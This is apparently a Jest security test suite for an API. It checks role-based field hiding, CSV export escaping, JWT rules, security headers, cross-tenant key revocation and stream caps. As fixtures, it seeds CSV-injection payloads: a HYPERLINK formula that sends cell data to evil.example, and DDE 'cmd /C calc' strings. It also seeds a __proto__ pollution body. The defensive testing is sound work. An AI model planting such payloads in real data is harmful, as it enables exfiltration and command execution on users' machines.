import { randomBytes } from 'node:crypto';
import { SignJWT } from 'jose';
import { classOfKey, FIELD_POLICY, hiddenClasses, ROLES, withoutHidden, type FieldClass } from '@agentmeter/domain';
import { eventually } from '@agentmeter/testing';
import {
  call,
  ingestAll,
  parseCsv,
  SECRET,
  seed,
  startQuery,
  token,
  type Answer,
  type RunningQuery,
  type Seeded,
} from './query.fixture';

/**
 * The query API's answers to what a security review probes (docs/security.md): the field policy in every
 * format for every role, CSV cells that a spreadsheet would evaluate, the JWT time rules and their uniform
 * 401, security headers, revoking another tenant's API key, and the cap on live streams per credential.
 */

type Operation = { path: string; csv: boolean; stream: boolean };

/** A cell a spreadsheet would evaluate (OWASP CSV injection); plain numbers are values. */
const FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(?:\.\d+)?$/;

describe('query API hygiene', () => {
  const prefix = `qh${randomBytes(3).toString('hex')}`;
  const tenant1 = `${prefix}-tenant-1`;
  const tenant2 = `${prefix}-tenant-2`;
  const formulaRun = `${prefix}-formula-run`;
  const formulaProject = '=HYPERLINK("http://evil.example/?"&A1)';
  const liveRun = `${prefix}-live-run`;
  let s: Seeded;
  let q: RunningQuery;
  let operations: Operation[];

  beforeAll(async () => {
    s = await seed(prefix);
    const at = (minutesAgo: number) => new Date(s.now.getTime() - minutesAgo * 60_000).toISOString();
    let n = 0;
    const event = (type: string, minutesAgo: number, data: object) => ({
      specversion: '1.0' as const,
      id: `${prefix}-h${++n}`,
      source: `query-hygiene/${prefix}`,
      type,
      time: at(minutesAgo),
      subject: tenant1,
      data,
    });
    const formula = { tenant_id: tenant1, project_id: formulaProject, run_id: formulaRun };
    const live = { tenant_id: tenant1, project_id: `${prefix}-t1-project-1`, run_id: liveRun };
    await ingestAll(s.ingest, [
      event('run_started', 30, { ...formula, playbook: '+cmd|" /C calc"!A0', model: '@SUM(1+1)*cmd|" /C calc"!A0' }),
      event('phase_entered', 29, { ...formula, phase: '-2+3+cmd|" /C calc"!A0', role: '@planner', attempt: 1 }),
      event('llm_call', 28, {
        ...formula,
        phase: '-2+3+cmd|" /C calc"!A0',
        role: '@planner',
        attempt: 1,
        model: '@SUM(1+1)*cmd|" /C calc"!A0',
        provider: 'openai',
        prompt_tokens: 100,
        completion_tokens: 10,
        cost_usd: '0.250000',
        latency_ms: 100,
      }),
      event('cap_hit', 27, { ...formula, scope: 'run', cap: 'cost', limit: '0.200000', observed: '0.250000' }),
      event('run_failed', 26, { ...formula, error: '\tx=1+1', phase: '-2+3+cmd|" /C calc"!A0' }),
      event('run_started', 20, { ...live, playbook: 'live', model: 'gpt-4.1' }),
      event('phase_entered', 19, { ...live, phase: 'plan', role: 'planner', attempt: 1 }),
      event('llm_call', 18, {
        ...live,
        phase: 'plan',
        role: 'planner',
        attempt: 1,
        model: 'gpt-4.1',
        provider: 'openai',
        prompt_tokens: 100,
        completion_tokens: 10,
        cost_usd: '0.100000',
        latency_ms: 100,
      }),
    ] as never);
    q = await startQuery(s.database.url, { STREAM_MAX_PER_CREDENTIAL: '2' });
    operations = await readOperations(q.url);
  });

  afterAll(async () => {
    await q?.stop();
    await s?.db.destroy();
    await s?.database.drop();
  });

  const fill = (path: string) =>
    path
      .replace('{run_id}', encodeURIComponent(formulaRun))
      .replace('{tenant_id}', encodeURIComponent(tenant1))
      .replace('{project_id}', encodeURIComponent(formulaProject));

  describe('field policy (libs/domain FIELD_POLICY), generated for every role, route and format', () => {
    it('finds the routes that return run and cost data in the OpenAPI document', () => {
      const paths = operations.map((o) => o.path);
      expect(paths).toEqual(expect.arrayContaining(['/runs', '/runs/{run_id}/metrics', '/runs/{run_id}/events']));
      expect(operations.find((o) => o.path === '/runs/{run_id}/stream')?.stream).toBe(true);
      expect(operations.filter((o) => o.csv).length).toBeGreaterThanOrEqual(5);
    });

    it.each([...ROLES])('%s gets none of its hidden fields in JSON, CSV or the stream', async (role) => {
      const hidden = hiddenClasses([role]);
      const bearer = await token(tenant1, [role]);
      const shown = new Set<FieldClass>();
      for (const operation of operations) {
        const path = fill(operation.path);
        if (operation.stream) {
          const events = await readStream(q.url, bearer, path, 1);
          if (events === 403) continue;
          for (const data of events) {
            expect({ path, format: 'sse', leaks: jsonLeaks(data, hidden) }).toEqual({ path, format: 'sse', leaks: [] });
            for (const c of classesIn(data)) shown.add(c);
          }
          continue;
        }
        const json = await call(q.url, bearer, path);
        if (json.status === 403) continue;
        expect({ path, status: json.status }).toEqual({ path, status: 200 });
        expect({ path, format: 'json', leaks: jsonLeaks(json.json, hidden) }).toEqual({
          path,
          format: 'json',
          leaks: [],
        });
        for (const c of classesIn(json.json)) shown.add(c);
        if (!operation.csv) continue;
        const csv = await call(q.url, bearer, `${path}${path.includes('?') ? '&' : '?'}format=csv`);
        expect({ path, status: csv.status }).toEqual({ path, status: 200 });
        expect({ path, format: 'csv', leaks: csvLeaks(csv, hidden) }).toEqual({ path, format: 'csv', leaks: [] });
      }
      // The walk is not vacuous: every class a role may see did appear in its answers.
      const visible = (Object.keys(FIELD_POLICY) as FieldClass[]).filter((c) => !hidden.has(c));
      expect([...shown].sort()).toEqual(expect.arrayContaining(visible.filter((c) => c !== 'traces')));
      if (role === 'support') expect(hidden.has('money')).toBe(true);
    });
  });

  it('neutralises formula-like cells (=, +, -, @, tab, CR) in every CSV export', async () => {
    const admin = await token(tenant1, ['admin']);
    const quoted: string[] = [];
    for (const operation of operations.filter((o) => o.csv)) {
      const path = fill(operation.path);
      const answer = await call(q.url, admin, `${path}${path.includes('?') ? '&' : '?'}format=csv`);
      expect({ path, status: answer.status }).toEqual({ path, status: 200 });
      const header = answer.text.split('\n')[0]!;
      const rows = parseCsv(answer.text);
      const cells = [...header.split(','), ...rows.flatMap((row) => Object.values(row))];
      const dangerous = cells.filter((cell) => FORMULA.test(cell) && !PLAIN_NUMBER.test(cell));
      expect({ path, dangerous }).toEqual({ path, dangerous: [] });
      quoted.push(...cells.filter((cell) => /^'[=+\-@\t\r]/.test(cell)));
    }
    // The seeded project, playbook, model, phase and error all came out as text.
    for (const value of [formulaProject, '+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\tx=1+1']) {
      expect(quoted).toContain(`'${value}`);
    }
    expect(quoted.some((cell) => cell.startsWith("'-2+3"))).toBe(true);
  });

  describe('JWT rules', () => {
    const sign = (claims: { iat?: number; exp?: number; nbf?: number }) => {
      const jwt = new SignJWT({ tenant_id: tenant1, roles: ['op'], ...claims })
        .setProtectedHeader({ alg: 'HS256' })
        .setSubject('jwt-rules')
        .setIssuer('agentmeter')
        .setAudience('agentmeter-api');
      return jwt.sign(new TextEncoder().encode(SECRET));
    };
    const now = () => Math.floor(Date.now() / 1000);

    it('refuses a token without exp, with iat or nbf in the future, or living longer than the maximum', async () => {
      const refused = {
        'no exp': await sign({}),
        'iat a day ahead': await sign({ iat: now() + 86_400, exp: now() + 86_400 + 600 }),
        'nbf an hour ahead': await sign({ nbf: now() + 3_600, exp: now() + 7_200 }),
        'lifetime of 2 days': await sign({ iat: now(), exp: now() + 2 * 86_400 }),
      };
      for (const [name, jwt] of Object.entries(refused)) {
        const answer = await call(q.url, jwt, '/runs');
        expect({ name, status: answer.status }).toEqual({ name, status: 401 });
      }
      // What `make token` issues (12 h, with iat) and a short token without iat are accepted.
      expect((await call(q.url, await sign({ iat: now(), exp: now() + 12 * 3_600 }), '/runs')).status).toBe(200);
      expect((await call(q.url, await sign({ exp: now() + 600 }), '/runs')).status).toBe(200);
    });

    it('answers every 401 alike, with WWW-Authenticate: Bearer and no reason', async () => {
      const answers = [
        await call(q.url, null, '/runs'),
        await call(q.url, 'not-a-token', '/runs'),
        await call(q.url, await sign({}), '/runs'),
        await call(q.url, 'amk_0123456789abcdef_' + 'A'.repeat(43), '/runs'),
      ];
      for (const answer of answers) {
        expect(answer.status).toBe(401);
        expect(answer.headers.get('www-authenticate')).toBe('Bearer error="invalid_token"');
        expect(answer.headers.get('content-type')).toMatch(/application\/problem\+json/);
        expect(answer.json).toEqual(answers[0]!.json);
      }
    });
  });

  it('sends the security headers on answers, errors and the OpenAPI UI, and no X-Powered-By', async () => {
    const op = await token(tenant1, ['op']);
    for (const answer of [
      await call(q.url, op, '/runs'),
      await call(q.url, op, '/runs/no-such-run/metrics'),
      await call(q.url, null, '/runs'),
      await call(q.url, null, '/health'),
    ]) {
      expect(answer.headers.get('x-powered-by')).toBeNull();
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      expect(answer.headers.get('x-frame-options')).toBe('SAMEORIGIN');
      expect(answer.headers.get('strict-transport-security')).toMatch(/max-age=\d+/);
      expect(answer.headers.get('referrer-policy')).toBe('no-referrer');
      expect(answer.headers.get('content-security-policy')).toBe("default-src 'none';frame-ancestors 'none'");
    }
    const ui = await call(q.url, null, '/docs');
    expect(ui.status).toBe(200);
    expect(ui.text).toContain('swagger-ui');
    expect(ui.headers.get('content-security-policy')).toContain("script-src 'self'");
    expect(ui.headers.get('x-powered-by')).toBeNull();
    const assets = [...ui.text.matchAll(/(?:src|href)="([^"]+\.(?:js|css))"/g)].map((m) => m[1]!);
    expect(assets.length).toBeGreaterThan(0);
    for (const asset of assets) {
      const file = new URL(asset, `${q.url}/docs`).pathname;
      expect({ file, status: (await call(q.url, null, file)).status }).toEqual({ file, status: 200 });
    }
    expect((await call(q.url, null, '/docs-json')).json.openapi).toMatch(/^3\./);
  });

  it("answers 404 to revoking another tenant's or an unknown API key, and audits no success", async () => {
    const owner2 = await token(tenant2, ['owner']);
    const created = await call(q.url, owner2, '/api-keys', { method: 'POST', body: { name: 'victim', role: 'bu' } });
    expect(created.status).toBe(201);
    const keyId: string = created.json.key_id;
    const owner1 = await token(tenant1, ['owner'], 'owner-one');
    const other = await call(q.url, owner1, `/api-keys/${keyId}`, { method: 'DELETE' });
    expect(other.status).toBe(404);
    expect(other.headers.get('content-type')).toMatch(/application\/problem\+json/);
    expect((await call(q.url, owner1, '/api-keys/0123456789abcdef', { method: 'DELETE' })).status).toBe(404);
    const [row] = await s.db.query(`SELECT revoked_at FROM api_keys WHERE key_id = $1`, [keyId]);
    expect(row.revoked_at).toBeNull();
    const audit: Array<{ target: string; outcome: string }> = await s.db.query(
      `SELECT target, outcome FROM audit_log WHERE actor = 'owner-one' AND action = 'api_key.revoke'`,
    );
    expect(audit.map((a) => a.outcome).sort()).toEqual(['failed', 'failed']);
    // The key still works, and its own tenant's owner can revoke it.
    expect((await call(q.url, created.json.api_key, '/runs')).status).toBe(200);
    expect((await call(q.url, owner2, `/api-keys/${keyId}`, { method: 'DELETE' })).status).toBe(204);
  });

  it('refuses unknown query parameters and bodies on routes that take none', async () => {
    const op = await token(tenant1, ['op']);
    const metrics = await call(q.url, op, `/runs/${encodeURIComponent(liveRun)}/metrics?debug=1`);
    expect(metrics.status).toBe(400);
    expect(metrics.json.detail).toMatch(/debug: unknown parameter/);
    const body = await call(q.url, await token(tenant1, ['owner']), '/api-keys/0123456789abcdef', {
      method: 'DELETE',
      body: { force: true },
    });
    expect(body.status).toBe(400);
    expect(body.json.detail).toMatch(/takes no body/);
    const proto = await call(q.url, op, `/runs/${encodeURIComponent(liveRun)}/rerun-last-step`, {
      method: 'POST',
      body: '{"reason":"x","__proto__":{"admin":true}}',
    });
    expect(proto.status).toBe(400);
    expect(proto.json.detail).toMatch(/__proto__: field not allowed/);
  });

  it('caps the live streams of one credential (429 beyond STREAM_MAX_PER_CREDENTIAL) and frees a closed one', async () => {
    const bearer = await token(tenant1, ['op'], 'stream-capped');
    const path = `/runs/${encodeURIComponent(liveRun)}/stream`;
    const first = await openStream(q.url, bearer, path);
    const second = await openStream(q.url, bearer, path);
    expect([first.status, second.status]).toEqual([200, 200]);
    const third = await call(q.url, bearer, path);
    expect(third.status).toBe(429);
    expect(third.headers.get('content-type')).toMatch(/application\/problem\+json/);
    expect(third.headers.get('retry-after')).toBe('1');
    // Another credential has its own allowance.
    const other = await openStream(q.url, await token(tenant1, ['op'], 'stream-other'), path);
    expect(other.status).toBe(200);
    other.close();
    first.close();
    const again = await eventually(async () => {
      const next = await openStream(q.url, bearer, path);
      if (next.status !== 200) throw new Error(`still ${next.status}`);
      return next;
    });
    again.close();
    second.close();
  });
});

/** GET operations of the query API's OpenAPI document that answer run, cost or usage data. */
async function readOperations(url: string): Promise<Operation[]> {
  const document = (await (await fetch(`${url}/docs-json`)).json()) as {
    paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>>;
  };
  const skip = new Set(['/health', '/health/ready', '/metrics', '/whoami', '/config', '/api-keys', '/audit']);
  const operations: Operation[] = [];
  for (const [path, methods] of Object.entries(document.paths)) {
    const get = methods.get;
    if (!get || skip.has(path)) continue;
    const types = Object.values(get.responses ?? {}).flatMap((r) => Object.keys(r.content ?? {}));
    operations.push({ path, csv: types.includes('text/csv'), stream: types.includes('text/event-stream') });
  }
  return operations;
}

/** Keys the policy hides that an answer still has (same rules as withoutHidden, checked independently). */
function jsonLeaks(value: unknown, hidden: ReadonlySet<FieldClass>): string[] {
  return JSON.stringify(withoutHidden(value, hidden)) === JSON.stringify(value) ? [] : findKeys(value, hidden);
}

function findKeys(value: unknown, hidden: ReadonlySet<FieldClass>, path = ''): string[] {
  if (Array.isArray(value)) return value.flatMap((item, i) => findKeys(item, hidden, `${path}[${i}]`));
  if (value === null || typeof value !== 'object') return [];
  const record = value as Record<string, unknown>;
  const moneyCrossing = hidden.has('money') && (record.cap === 'cost' || record.cap === 'external');
  return Object.entries(record).flatMap(([key, item]) => {
    const c = classOfKey(key);
    if ((c && hidden.has(c)) || (moneyCrossing && (key === 'limit' || key === 'observed'))) return [`${path}.${key}`];
    return findKeys(item, hidden, `${path}.${key}`);
  });
}

function classesIn(value: unknown): Set<FieldClass> {
  const found = new Set<FieldClass>();
  const walk = (v: unknown) => {
    if (Array.isArray(v)) v.forEach(walk);
    else if (v !== null && typeof v === 'object') {
      for (const [key, item] of Object.entries(v as Record<string, unknown>)) {
        const c = classOfKey(key);
        if (c && item !== null && item !== undefined) found.add(c);
        walk(item);
      }
    }
  };
  walk(value);
  return found;
}

/** Columns (and long-form field names) of a CSV answer whose dotted name has a hidden key. */
function csvLeaks(answer: Answer, hidden: ReadonlySet<FieldClass>): string[] {
  const rows = parseCsv(answer.text);
  const names = new Set<string>(answer.text.split('\n')[0]!.split(','));
  for (const row of rows) if (row.field) names.add(row.field);
  const leaks = [...names].filter((name) =>
    name.split('.').some((part) => {
      const c = classOfKey(part);
      return c !== null && hidden.has(c);
    }),
  );
  if (hidden.has('money')) {
    for (const row of rows) {
      if ((row['data.cap'] === 'cost' || row['data.cap'] === 'external') && (row['data.limit'] || row['data.observed']))
        leaks.push('data.limit');
    }
  }
  return leaks;
}

interface OpenStream {
  status: number;
  close(): void;
}

async function openStream(url: string, bearer: string, path: string): Promise<OpenStream> {
  const controller = new AbortController();
  const response = await fetch(`${url}${path}`, {
    headers: { authorization: `Bearer ${bearer}` },
    signal: controller.signal,
  });
  if (response.status !== 200) await response.text();
  return {
    status: response.status,
    close: () => controller.abort(),
  };
}

/** The data of the first `count` metrics events of a stream, or 403. */
async function readStream(url: string, bearer: string, path: string, count: number): Promise<unknown[] | 403> {
  const controller = new AbortController();
  const response = await fetch(`${url}${path}`, {
    headers: { authorization: `Bearer ${bearer}` },
    signal: controller.signal,
  });
  if (response.status === 403) {
    await response.text();
    return 403;
  }
  expect({ path, status: response.status }).toEqual({ path, status: 200 });
  const reader = response.body!.getReader();
  const decoder = new TextDecoder();
  let text = '';
  const found: unknown[] = [];
  try {
    while (found.length < count) {
      const { value, done } = await reader.read();
      if (done) break;
      text += decoder.decode(value, { stream: true });
      let end: number;
      while ((end = text.indexOf('\n\n')) >= 0) {
        const block = text.slice(0, end);
        text = text.slice(end + 2);
        const data = /^data: (.*)$/m.exec(block)?.[1];
        if (/^event: metrics$/m.test(block) && data) found.push(JSON.parse(data));
      }
    }
  } finally {
    controller.abort();
  }
  return found;
}
